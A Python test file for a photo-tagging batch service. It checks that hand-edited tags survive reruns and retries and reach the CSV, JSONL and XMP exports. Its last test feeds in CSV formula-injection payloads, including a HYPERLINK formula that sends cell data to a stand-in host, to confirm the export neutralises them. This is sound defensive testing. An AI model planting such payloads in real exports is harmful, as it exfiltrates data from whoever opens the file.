"""Tags edited by hand over real HTTP, on SQLite and PostgreSQL: each tag carries its source, a refresh re-run
written through ``outcomes.record_outcomes`` replaces the model's tags and keeps the person's (removals too), a
retry of failed items keeps them, and the CSV, JSONL and XMP exports carry the merged tags."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
from sqlalchemy import select, update
from sqlalchemy.orm import Session, sessionmaker

from api.main import create_app
from jobs.exports.files import write_export
from jobs.exports.xmp import sidecar_path, write_job_sidecars
from tests.support.ledger import MARKER, finished_job
from vlbatch.db import job_store, leases, outcomes
from vlbatch.db.models import Item, Result
from vlbatch.settings import Settings

LEASE = timedelta(minutes=5)


def _run(factory: sessionmaker[Session], job_id: str, answers: dict[str, dict[str, Any] | None]) -> None:
    """Claim the job's chunks and write each item's answer (by ref; None fails it) as a worker does."""
    with factory() as s:
        for chunk_id in job_store.chunks_of(s, job_id=job_id):
            items = leases.claim_chunk(s, chunk_id=chunk_id, owner="w", lease=LEASE)
            done = [
                outcomes.Outcome(
                    item_id=i.id,
                    job_id=job_id,
                    output=answers[i.ref or ""],
                    raw_text=None,
                    prompt_tokens=1,
                    completion_tokens=1,
                    error_code=None if answers[i.ref or ""] is not None else "decode_error",
                    error_message=None if answers[i.ref or ""] is not None else "bad",
                )
                for i in items
            ]
            outcomes.record_outcomes(s, outcomes=done, markers={job_id: MARKER})
            leases.finish_chunk(s, chunk_id=chunk_id, owner="w")
        s.commit()


def _names(result: dict[str, Any]) -> list[tuple[str, str]]:
    return [(t["tag"], t["source"]) for t in result["tags"]]


def test_manual_tags_survive_a_refresh_rerun_and_reach_every_export(
    db_url: str, tmp_path: Path, redis_url: str, serve: type, api_key: Any
) -> None:
    photos = [tmp_path / f"{n}.jpg" for n in "abc"]
    for p in photos:
        p.write_bytes(b"\xff\xd8 stand-in")
    settings = Settings(database_url=db_url, broker_url=redis_url, model_name="m")
    factory, job_id = finished_job(
        db_url,
        [
            ({"images": [str(photos[0])]}, {"tags": ["sea", "boat"], "caption": "A boat"}),
            ({"images": [str(photos[1])]}, {"tags": ["forest"]}),
            ({"images": [str(photos[2])]}, None),
        ],
    )
    with factory() as s:
        a, _b, c = s.scalars(select(Item.id).where(Item.job_id == job_id).order_by(Item.seq))
    key = api_key.make(db_url)
    stranger = api_key.make(db_url, tenant="elsewhere")
    with serve(create_app(settings)) as srv, httpx.Client(base_url=srv.url, headers=api_key.header(key)) as client:
        edit = client.patch(f"/v1/jobs/{job_id}/items/{a}/tags", json={"add": [" holiday "], "remove": ["boat"]})
        assert edit.status_code == 200, edit.text
        assert _names(edit.json()) == [("sea", "model"), ("holiday", "manual")]
        manual = edit.json()["tags"][1]
        assert manual["by"].startswith("default/key-") and manual["at"] is not None
        assert edit.json()["output"]["tags"] == ["sea", "boat"]  # the model's answer itself is kept as it was

        # Refusals: another tenant's job is not found, an item of another job, an item without a result, a blank tag.
        other = httpx.patch(
            f"{srv.url}/v1/jobs/{job_id}/items/{a}/tags", json={"add": ["x"]}, headers=api_key.header(stranger)
        )
        assert other.status_code == 404 and other.json()["code"] == "job_not_found"
        assert client.patch(f"/v1/jobs/{job_id}/items/999999/tags", json={"add": ["x"]}).json()["code"] == (
            "item_not_found"
        )
        blank = client.patch(f"/v1/jobs/{job_id}/items/{a}/tags", json={"add": ["  "]})
        assert blank.status_code == 422 and blank.json()["code"] == "invalid_request"
        with factory() as s:  # an item still queued has no result row
            s.execute(update(Item).where(Item.id == c).values(status="queued"))
            s.execute(Result.__table__.delete().where(Result.item_id == c))
            s.commit()
        none = client.patch(f"/v1/jobs/{job_id}/items/{c}/tags", json={"add": ["x"]})
        assert none.status_code == 409 and none.json()["code"] == "no_result_to_tag"
        with factory() as s:
            s.execute(update(Item).where(Item.id == c).values(status="failed"))
            # every result was made by an older pipeline version: a refresh takes them all again
            s.execute(update(Result).values(pipeline_version="0.old"))
            s.commit()

        rerun = client.post(f"/v1/jobs/{job_id}/rerun", json={"scope": "refresh"})
        assert rerun.status_code == 201, rerun.text
        new_id = rerun.json()["id"]
        # the model now answers with boat again and a new tag; b gets new tags; c fails again
        _run(factory, new_id, {"r0": {"tags": ["sea", "boat", "sunset"]}, "r1": {"tags": ["tree"]}, "r2": None})

        results = client.get(f"/v1/jobs/{new_id}/results").json()["data"]
        assert [_names(r) for r in results[:2]] == [
            [("sea", "model"), ("sunset", "model"), ("holiday", "manual")],  # boat stays removed, holiday stays
            [("tree", "model")],  # the model's tags were replaced
        ]
        assert results[0]["tags"][1 + 1]["by"] == manual["by"]
        assert client.get(f"/v1/jobs/{job_id}/results").json()["data"][1]["tags"][0]["tag"] == "forest"  # old job

        lines = [json.loads(line) for line in client.get(f"/v1/jobs/{new_id}/results.jsonl").text.splitlines()]
        assert lines == results
        rows = list(csv.DictReader(io.StringIO(client.get(f"/v1/jobs/{new_id}/results.csv").text)))
        assert [r["tags"] for r in rows] == ["sea;sunset;holiday", "tree", ""]

        # Retry of failed items (in place): a tag added by hand to the failed item survives its new answer.
        c2 = results[2]["item_id"]
        assert _names(client.patch(f"/v1/jobs/{new_id}/items/{c2}/tags", json={"add": ["keep"]}).json()) == [
            ("keep", "manual")
        ]
        with factory() as s:
            assert job_store.retry_failed(s, job_id=new_id)
            s.commit()
        _run(factory, new_id, {"r0": None, "r1": None, "r2": {"tags": ["desert", "keep"]}})
        after = client.get(f"/v1/jobs/{new_id}/results").json()["data"][2]
        assert after["status"] == "succeeded" and _names(after) == [("desert", "model"), ("keep", "manual")]

    out = tmp_path / "xmp"
    with factory() as s:
        report = write_job_sidecars(s, job_id=new_id, out_dir=out, relative_to=tmp_path)
    assert report.written == 3
    packet = sidecar_path(photos[0], out_dir=out, relative_to=tmp_path).read_text()
    assert "<rdf:li>holiday</rdf:li>" in packet and "<rdf:li>sunset</rdf:li>" in packet
    assert "boat" not in packet

    # The embedded runner's export (`vlbatch tag --out`) reads the same merged tags.
    assert write_export(factory, new_id, tmp_path / "tagged.jsonl") == 3
    rows = [json.loads(line) for line in (tmp_path / "tagged.jsonl").read_text().splitlines()]
    assert [[t["tag"] for t in r["tags"]] for r in rows] == [["sea", "sunset", "holiday"], ["tree"], ["desert", "keep"]]


def test_dashboard_adds_and_removes_tags_by_hand(tmp_path: Path, redis_url: str, serve: type, api_key: Any) -> None:
    settings = Settings(database_url=f"sqlite:///{tmp_path / 'ui.db'}", broker_url=redis_url, model_name="m")
    factory, job_id = finished_job(
        settings.database.database_url, [({"images": ["/a.jpg"]}, {"tags": ["sea", "boat"]})]
    )
    with factory() as s:
        (item_id,) = s.scalars(select(Item.id).where(Item.job_id == job_id))
    key = api_key.make(settings.database.database_url)
    with serve(create_app(settings)) as srv, httpx.Client(base_url=srv.url) as browser:
        assert browser.post("/ui/login", data={"key": key}).status_code == 303
        form = f"/ui/jobs/{job_id}/items/{item_id}/tags"
        assert browser.post(form, data={"add": "harbour"}).headers["location"] == f"/ui/jobs/{job_id}"
        assert browser.post(form, data={"remove": "boat"}).status_code == 303
        page = browser.get(f"/ui/jobs/{job_id}").text
        assert 'data-source="manual"' in page and ">harbour<" in page
        assert 'data-source="model"' in page and ">boat<" not in page
        refused = browser.post(form, data={"add": "x"}, headers={"sec-fetch-site": "cross-site"})
        assert refused.status_code == 403
        api = httpx.get(f"{srv.url}/v1/jobs/{job_id}/results", headers=api_key.header(key)).json()
        assert _names(api["data"][0]) == [("sea", "model"), ("harbour", "manual")]


def test_manual_tags_per_result_are_capped(
    db_url: str, tmp_path: Path, redis_url: str, serve: type, api_key: Any
) -> None:
    settings = Settings(database_url=db_url, broker_url=redis_url, model_name="m", max_manual_tags=5)
    factory, job_id = finished_job(db_url, [({"images": ["/a.jpg"]}, {"tags": ["sea", "boat"]})])
    with factory() as s:
        (item_id,) = s.scalars(select(Item.id).where(Item.job_id == job_id))
    key = api_key.make(db_url)
    with serve(create_app(settings)) as srv, httpx.Client(base_url=srv.url, headers=api_key.header(key)) as client:
        path = f"/v1/jobs/{job_id}/items/{item_id}/tags"
        assert client.patch(path, json={"add": ["t1", "t2", "t3"], "remove": ["boat"]}).status_code == 200
        assert client.patch(path, json={"add": ["t1", "t2"], "remove": ["t3"]}).status_code == 200  # edits, not new
        over = client.patch(path, json={"add": ["t4", "t5"]})
        assert over.status_code == 409 and over.json()["code"] == "too_many_manual_tags", over.text
        assert "VLBATCH_MAX_MANUAL_TAGS" in over.json()["detail"]
        assert client.patch(path, json={"add": ["t4"]}).status_code == 200  # the fifth still fits
        tags = client.get(f"/v1/jobs/{job_id}/results").json()["data"][0]["tags"]
        assert [t["tag"] for t in tags] == ["sea", "t1", "t2", "t4"]


def test_csv_tags_are_guarded_per_tag_and_read_back_whole(
    db_url: str, tmp_path: Path, redis_url: str, serve: type, api_key: Any
) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "rock;roll", "a;=1+1", "-2+3", "back\\slash;", "'q"]
    settings = Settings(database_url=db_url, broker_url=redis_url, model_name="m")
    factory, job_id = finished_job(db_url, [({"images": ["/a.jpg"]}, {"tags": ["sea", "@SUM(1)"]})])
    with factory() as s:
        (item_id,) = s.scalars(select(Item.id).where(Item.job_id == job_id))
    key = api_key.make(db_url)
    with serve(create_app(settings)) as srv, httpx.Client(base_url=srv.url, headers=api_key.header(key)) as client:
        assert client.patch(f"/v1/jobs/{job_id}/items/{item_id}/tags", json={"add": hostile}).status_code == 200
        text = client.get(f"/v1/jobs/{job_id}/results.csv").text
    # Opened with ';' as the separator (many locales' default), no cell may start as a formula.
    for row in csv.reader(io.StringIO(text), delimiter=";"):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
    from jobs.exports.csv_writer import tags_of_cell

    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert tags_of_cell(row["tags"]) == ["sea", "@SUM(1)", *hostile]  # every tag whole, the ';' in them too
